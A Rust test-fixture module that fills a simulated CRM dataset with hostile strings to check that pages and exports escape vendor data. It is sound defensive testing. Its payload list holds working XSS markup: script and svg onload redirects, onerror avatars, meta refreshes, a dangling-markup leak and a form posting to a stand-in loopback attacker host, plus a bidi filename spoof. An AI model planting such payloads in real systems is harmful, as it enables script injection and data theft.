//! The hostile universe: every string a vendor would report about a customer, a clue or a rep
//! carries text that becomes live markup, a redirect, a leak or a layout break if any page,
//! export or hydration payload writes it unescaped (`SALESDESK_SIM_HOSTILE=1`, and the
//! hostile-data test suites). Customers pick their WeChat nicknames and remarks are typed by
//! people, so this is what a vendor may really send.
//!
//! Ids stay valid (a page must still be reachable by its URL) and the merge keys stay as
//! they are (external ids, unionIds, the customers' own mobiles), so the hostile universe
//! has the same customers, followers and clues as the clean one with the same options.
//! Every payload's markup names the attacker's host [`ATTACKER_HOST`] or carries an id
//! starting with [`INJECTED_ID_PREFIX`], so a test can look for anything it produced.

use super::types::*;

/// The host every payload points at: loopback, so a browser that followed one would reach
/// nothing, but never this app's own address (127.0.0.1).
pub const ATTACKER_HOST: &str = "127.0.0.9";

/// Every element a payload would create has an `id` starting with this.
pub const INJECTED_ID_PREFIX: &str = "hostile-";

/// The payloads, one per kind of place a string can escape from. Each is appended to the
/// clean value, so pages stay tellable apart.
pub const PAYLOADS: [&str; 12] = [
    "</title><meta http-equiv=\"refresh\" content=\"0;url=http://127.0.0.9/title\"><b id=\"hostile-title\">标题</b>",
    "</textarea><b id=\"hostile-textarea\">文本框</b><textarea>",
    "</script><b id=\"hostile-script\">脚本</b><script>location='http://127.0.0.9/script'</script>",
    "<!--",
    "\"'><svg onload=\"location='http://127.0.0.9/svg'\" id=\"hostile-svg\"></svg>",
    "<meta http-equiv=\"refresh\" content=\"0;url=http://127.0.0.9/meta\">",
    "<img id=\"hostile-img\" src='http://127.0.0.9/leak?",
    "R\u{202E}gnp.bat\u{2066}\u{202B}",
    "</style><b id=\"hostile-style\">样式</b><style>*{display:none}</style>",
    "<form id=\"hostile-form\" action=\"http://127.0.0.9/form\"><button>提交</button></form>",
    "&lt;b id=&quot;hostile-entity&quot;&gt;",
    "{{7*7}}${7*7}\\u003cb id=\"hostile-json\"\\u003e",
];

/// How long the longest strings are: longer than any limit a page or vendor sets.
pub const LONG_CHARS: usize = 10_000;

/// An option id no option set holds, with markup of its own.
pub const INVALID_OPTION_ID: &str = "999999999999999<b id=\"hostile-option\">";

/// Counts the strings it rewrites, so each record gets every payload in turn across its
/// fields and a long string now and then.
struct Poisoner {
    n: usize,
}

impl Poisoner {
    /// `clean` followed by the next payload; every 13th string instead runs to
    /// [`LONG_CHARS`] characters (the clean value, the payload, then filler).
    fn text(&mut self, clean: &str) -> String {
        let payload = PAYLOADS[self.n % PAYLOADS.len()];
        self.n += 1;
        let mut out = format!("{clean}{payload}");
        if self.n.is_multiple_of(13) {
            let filler = "长".repeat(LONG_CHARS.saturating_sub(out.chars().count()));
            out.push_str(&filler);
        }
        out
    }

    fn opt(&mut self, value: &mut Option<String>) {
        if let Some(v) = value {
            *v = self.text(v);
        }
    }
}

/// Rewrites every vendor-visible string of `universe` as described in the module docs.
pub fn poison(universe: &mut Universe) {
    let mut p = Poisoner { n: 0 };
    for rep in &mut universe.reps {
        rep.name = p.text(&rep.name);
        rep.avatar = format!("http://{ATTACKER_HOST}/avatar.png\" onerror=\"location='http://{ATTACKER_HOST}/rep'");
    }
    for group in &mut universe.tag_groups {
        group.name = p.text(&group.name);
        for tag in &mut group.tags {
            tag.name = p.text(&tag.name);
        }
    }
    for tag in &mut universe.personal_tags {
        tag.name = p.text(&tag.name);
    }
    for set in &mut universe.clue_field_options {
        for option in &mut set.options {
            option.label = p.text(&option.label);
        }
    }
    for person in &mut universe.customers {
        poison_person(&mut p, person);
    }
    for clue in &mut universe.clues {
        poison_clue(&mut p, clue);
    }
}

fn poison_person(p: &mut Poisoner, person: &mut Person) {
    person.name = p.text(&person.name);
    person.nickname = p.text(&person.nickname);
    person.avatar = format!("http://{ATTACKER_HOST}/avatar/{}.png' onerror='alert(1)", person.index);
    for field in [
        &mut person.company,
        &mut person.company_short,
        &mut person.industry,
        &mut person.description,
        &mut person.stage,
        &mut person.intention,
        &mut person.source,
    ] {
        *field = p.text(field);
    }
    p.opt(&mut person.position);
    for follow in &mut person.follows {
        follow.remark = p.text(&follow.remark);
        follow.description = p.text(&follow.description);
        follow.add_source.name = p.text(&follow.add_source.name);
        p.opt(&mut follow.remark_corp_name);
        // A mobile the rep typed into the remark: kept, plus one that is no number at all.
        follow.remark_mobiles.push(p.text("138"));
    }
    if let Some(tanma) = &mut person.tanma {
        for follow in &mut tanma.follows {
            follow.content = p.text(&follow.content);
        }
    }
    if let Some(weiling) = &mut person.weiling {
        weiling.stage = p.text(&weiling.stage);
        for company in &mut weiling.companies {
            company.company_name = p.text(&company.company_name);
        }
        for business in &mut weiling.businesses {
            business.business_name = p.text(&business.business_name);
        }
        for progress in &mut weiling.progress {
            // Weiling notes are HTML: the payload goes in raw, as a vendor's editor could.
            let payload = p.text("");
            progress.content_html = format!("{}{payload}", progress.content_html);
            progress.plain_text = format!("{}{payload}", progress.plain_text);
        }
    }
}

fn poison_clue(p: &mut Poisoner, clue: &mut ClueRecord) {
    clue.name = p.text(&clue.name);
    clue.mobiles.push(p.text("139"));
    for field in &mut clue.fields {
        field.value = Some(match field.field_type {
            CLUE_OPTION => INVALID_OPTION_ID.to_string(),
            CLUE_DATE => p.text("2026-13-45"),
            CLUE_JSON_LIST => {
                let hostile = p.text("137");
                serde_json::json!(["13800138000", hostile]).to_string()
            }
            _ => p.text(field.value.as_deref().unwrap_or("")),
        });
    }
    if let Some(company) = &mut clue.company {
        for field in [
            &mut company.name,
            &mut company.legal_person,
            &mut company.industry,
            &mut company.registered_capital,
            &mut company.address,
        ] {
            *field = p.text(field);
        }
    }
    for follow in &mut clue.follow_ups {
        follow.content = p.text(&follow.content);
    }
}

#[cfg(test)]
mod tests {
    use super::super::{UniverseOptions, generate};
    use super::*;

    #[test]
    fn every_payload_reaches_names_and_ids_stay() {
        let clean = generate(&UniverseOptions::default());
        let mut hostile = clean.clone();
        poison(&mut hostile);
        assert_eq!(hostile.customers.len(), clean.customers.len());
        for (h, c) in hostile.customers.iter().zip(&clean.customers) {
            assert_eq!(h.external_user_id, c.external_user_id);
            assert_eq!(h.union_id, c.union_id);
            assert_eq!(h.mobiles, c.mobiles, "merge keys stay");
            assert!(h.name.starts_with(&c.name) && h.name.len() > c.name.len());
            assert!(h.nickname.starts_with(&c.nickname) && h.nickname.len() > c.nickname.len());
        }
        let names: String = hostile.customers.iter().map(|c| c.name.as_str()).collect();
        for payload in PAYLOADS {
            assert!(names.contains(payload), "no customer name carries {payload:?}");
        }
        assert!(
            hostile.customers.iter().any(|c| c.name.chars().count() >= LONG_CHARS),
            "some names are 10,000 characters"
        );
        let option_values = hostile.clues.iter().flat_map(|c| &c.fields).filter(|f| f.field_type == CLUE_OPTION);
        assert!(option_values.clone().count() > 0);
        for f in option_values {
            assert_eq!(f.value.as_deref(), Some(INVALID_OPTION_ID));
        }
    }
}
